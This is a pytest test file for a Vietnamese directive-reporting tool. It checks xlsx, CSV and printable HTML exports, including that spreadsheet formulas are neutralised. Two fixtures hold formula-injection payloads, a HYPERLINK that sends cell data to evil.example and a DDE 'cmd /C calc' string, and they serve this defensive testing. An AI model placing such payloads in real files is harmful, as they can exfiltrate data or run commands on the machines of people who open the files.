"""Office files: the report and the audit log as xlsx, CSV and a printable page, for Vietnamese
offices. Dates are real date cells, Vietnamese names survive byte for byte, overdue rows stand
out, nothing a unit or a reason holds can run as a spreadsheet formula, and the HTML page
prints through headless Chromium with the dispatch's heading and every unit."""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
import unicodedata
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from directive_support import DIRECTIVE, NUMBER, plan, secretary, sqlite_copy

from cli.main import cli
from workflow import FrozenClock
from workflow.directives import directive_report, import_directive, import_units, list_units

HOSTILE_UNIT = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
HOSTILE_REASON = "@SUM(1+2)*cmd|' /C calc'!A0"
AT = "2020-09-20T00:00:00+07:00"  # after the deadline of item 2.2 (15/9/2020)


@pytest.fixture(scope="module")
def office_db(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """19-CV/ĐUK imported for a few units and one whose name is a formula; one plan sent back
    with a reason that is a formula, one plan approved on time."""
    folder = tmp_path_factory.mktemp("office")
    clock = FrozenClock(datetime.fromisoformat("2020-09-07T08:00:00+07:00"))
    units = folder / "hostile_unit.yaml"
    units.write_text(
        "units:\n"
        "  - code: cb_hostile\n"
        f"    name_vi: '{HOSTILE_UNIT.replace(chr(39), chr(39) * 2)}'\n"
        "    name_en: Hostile\n"
        "    kind: base\n"
        "    parent: dang_uy_khoi\n",
        encoding="utf-8",
    )
    with sqlite_copy(folder, clock, units=True) as engine:
        import_units(engine, units)
        import_directive(engine, DIRECTIVE)
        me = secretary("cb_hostile")
        plan_id = next(i.id for i in engine.instances(workflow="plan_drafting", unit="cb_hostile"))
        engine.fire(plan_id, "submit", me, payload=plan())
        engine.fire(plan_id, "request_revision", me, reason=HOSTILE_REASON)
        yield str(engine.url)


def run(db: str, *args: str) -> str:
    result = CliRunner().invoke(cli, ["--db", db, *args])
    assert result.exit_code == 0, result.output
    return result.output


def unit_names(db: str) -> dict[str, str]:
    from workflow import Engine

    with Engine.open(db) as engine:
        return {u.code: u.name_vi for u in list_units(engine)}


def reported_unit_names(db: str) -> list[str]:
    from workflow import Engine

    with Engine.open(db) as engine:
        names = [u.unit_name for u in directive_report(engine, NUMBER).units]
    assert len(names) > 5
    return names


@pytest.fixture(scope="module")
def report_xlsx(office_db: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("xlsx") / "bao-cao.xlsx"
    run(office_db, "directive", "report", NUMBER, "--format", "xlsx", "-o", str(path), "--at", AT)
    return path


def test_the_xlsx_report_has_one_sheet_per_view_with_vietnamese_headers(report_xlsx):
    book = openpyxl.load_workbook(report_xlsx)
    assert book.sheetnames == ["Tổng hợp", "Đơn vị", "Chi tiết"]
    details = book["Chi tiết"]
    assert [c.value for c in details[1]][:3] == ["Mã đơn vị", "Đơn vị", "Mục"]
    assert details.freeze_panes == "A2"
    assert book["Tổng hợp"].freeze_panes == "A3"  # under the title and the header


def test_the_xlsx_report_holds_real_dates_and_names_byte_for_byte(report_xlsx, office_db):
    details = openpyxl.load_workbook(report_xlsx)["Chi tiết"]
    headers = [c.value for c in details[1]]
    due = headers.index("Hạn")
    rows = list(details.iter_rows(min_row=2))
    dated = [r[due] for r in rows if r[due].value is not None]
    assert dated
    assert all(c.is_date and isinstance(c.value, datetime) for c in dated)
    # "trước ngày 15/9/2020": the deadline is local midnight starting the 15th
    assert {c.value for c in dated} == {datetime(2020, 9, 15, 0, 0)}
    names = unit_names(office_db)
    for row in rows:
        code, shown = row[0].value, row[1].value
        if code != "cb_hostile":
            assert shown.encode("utf-8") == names[code].encode("utf-8")
    assert "Ủy ban Kiểm tra Đảng ủy Khối".encode() in {
        r[1].value.encode("utf-8") for r in rows
    }


def test_overdue_rows_are_filled_and_columns_fit_their_text(report_xlsx):
    details = openpyxl.load_workbook(report_xlsx)["Chi tiết"]
    headers = [c.value for c in details[1]]
    result = headers.index("Kết quả")
    rows = list(details.iter_rows(min_row=2))
    overdue = [r for r in rows if r[result].value == "quá hạn"]
    on_track = [r for r in rows if r[result].value == "đang thực hiện"]
    assert overdue
    assert on_track
    assert all(r[0].fill.fgColor.rgb.endswith("F8CBAD") for r in overdue)
    assert not any(r[0].fill.fgColor.rgb.endswith("F8CBAD") for r in on_track)
    longest = max(len(r[1].value) for r in rows)
    assert details.column_dimensions["B"].width >= min(longest, 60)


def test_the_xlsx_file_is_private_to_its_owner(report_xlsx):
    assert stat.S_IMODE(os.stat(report_xlsx).st_mode) == 0o600


def test_formulas_are_neutralised_in_the_csv_and_xlsx_reports(office_db, report_xlsx):
    report = ("directive", "report", NUMBER, "--format", "csv", "--at", AT)
    csv_text = run(office_db, "--lang", "vi", *report)
    assert csv_text.startswith("\ufeff")  # the byte-order mark Excel needs, on in Vietnamese
    assert "'" + HOSTILE_UNIT.replace('"', '""') in csv_text
    lines = [line for line in csv_text.splitlines() if "cb_hostile" in line]
    assert lines
    assert all(",=" not in line and ',"=' not in line for line in lines)
    assert not run(office_db, "--lang", "vi", *report, "--no-bom").startswith("\ufeff")
    assert not run(office_db, "--lang", "en", *report).startswith("\ufeff")
    assert run(office_db, "--lang", "en", *report, "--bom").startswith("\ufeff")

    book = openpyxl.load_workbook(report_xlsx)
    cells = [c for row in book["Chi tiết"].iter_rows() for c in row if c.value is not None]
    hostile = [c for c in cells if "HYPERLINK" in str(c.value)]
    assert hostile
    assert all(c.data_type == "s" and c.value == "'" + HOSTILE_UNIT for c in hostile)
    assert not any(c.data_type == "f" for c in cells)


def test_formulas_are_neutralised_in_the_audit_exports_which_still_verify(
    office_db, tmp_path
):
    exported = tmp_path / "audit.csv"
    run(office_db, "audit", "export", "--format", "csv", "--bom", "-o", str(exported))
    text = exported.read_text(encoding="utf-8")
    assert text.startswith("\ufeff")
    assert ",'" + HOSTILE_REASON.replace('"', '""') in text
    assert "ok:" in run(office_db, "audit", "verify", "--file", str(exported))

    workbook = tmp_path / "audit.xlsx"
    run(office_db, "audit", "export", "--format", "xlsx", "-o", str(workbook))
    book = openpyxl.load_workbook(workbook, read_only=True)
    assert book.sheetnames == ["Sự kiện", "Nhật ký quản trị"]
    events = book["Sự kiện"]
    rows = list(events.iter_rows(min_row=3, values_only=True))
    assert [c.value for c in next(events.iter_rows(min_row=2, max_row=2))][:3] == [
        "Hồ sơ", "STT", "Thời điểm",
    ]  # fmt: skip
    assert all(isinstance(r[2], datetime) for r in rows)
    reasons = [r[12] for r in rows if r[12]]
    assert "'" + HOSTILE_REASON in reasons
    assert not any(str(v).startswith(("=", "+", "-", "@")) for r in rows for v in r if v)
    book.close()


def test_the_html_report_is_one_escaped_page_that_fetches_nothing(office_db, tmp_path):
    page = tmp_path / "bao-cao.html"
    run(office_db, "directive", "report", NUMBER, "--format", "html", "-o", str(page), "--at", AT)
    html = page.read_text(encoding="utf-8")
    assert "ĐẢNG CỘNG SẢN VIỆT NAM" in html
    assert "Bến Tre, ngày 07 tháng 9 năm 2020" in html
    escaped = "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1,&#34;Xem&#34;)"
    assert escaped in html
    for fetched in ("<script", "<link", "src=", "http://", "https://", "@import", "url("):
        assert fetched not in html.replace(escaped, ""), fetched


def _squeezed(text: str) -> str:
    return "".join(unicodedata.normalize("NFC", text).split())


def test_the_html_report_prints_to_pdf_with_the_heading_and_every_unit(office_db, tmp_path):
    pypdf = pytest.importorskip("pypdf")
    browser = shutil.which("chromium") or shutil.which("chromium-browser")
    if browser is None:
        if os.environ.get("CI"):
            pytest.fail("chromium is not installed (.ci/run installs it with apt-get)")
        pytest.skip("chromium is not installed: apt-get install -y chromium")
    page = tmp_path / "bao-cao.html"
    run(office_db, "directive", "report", NUMBER, "--format", "html", "-o", str(page), "--at", AT)
    pdf = tmp_path / "bao-cao.pdf"
    subprocess.run(
        [
            browser,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-pdf-header-footer",
            f"--user-data-dir={tmp_path / 'profile'}",
            f"--print-to-pdf={pdf}",
            page.as_uri(),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    reader = pypdf.PdfReader(pdf)
    box = reader.pages[0].mediabox
    assert (round(float(box.width) / 72 * 25.4), round(float(box.height) / 72 * 25.4)) == (
        210,
        297,
    )  # A4, in millimetres
    text = _squeezed("".join(p.extract_text() for p in reader.pages))
    for heading in (
        "ĐẢNGCỘNGSẢNVIỆTNAM",
        "Số19-CV/ĐUK",
        _squeezed("ĐẢNG ỦY KHỐI CƠ QUAN - DOANH NGHIỆP TỈNH BẾN TRE"),
        _squeezed("Bến Tre, ngày 07 tháng 9 năm 2020"),
    ):
        assert heading in text
    for name in reported_unit_names(office_db):
        assert _squeezed(name) in text, name


def test_a_missing_extra_says_how_to_install_it():
    from workflow import MissingExtra
    from workflow.office import require

    with pytest.raises(MissingExtra, match=r"pip install 'directive-workflow\[office\]'"):
        require("workflow_no_such_package")
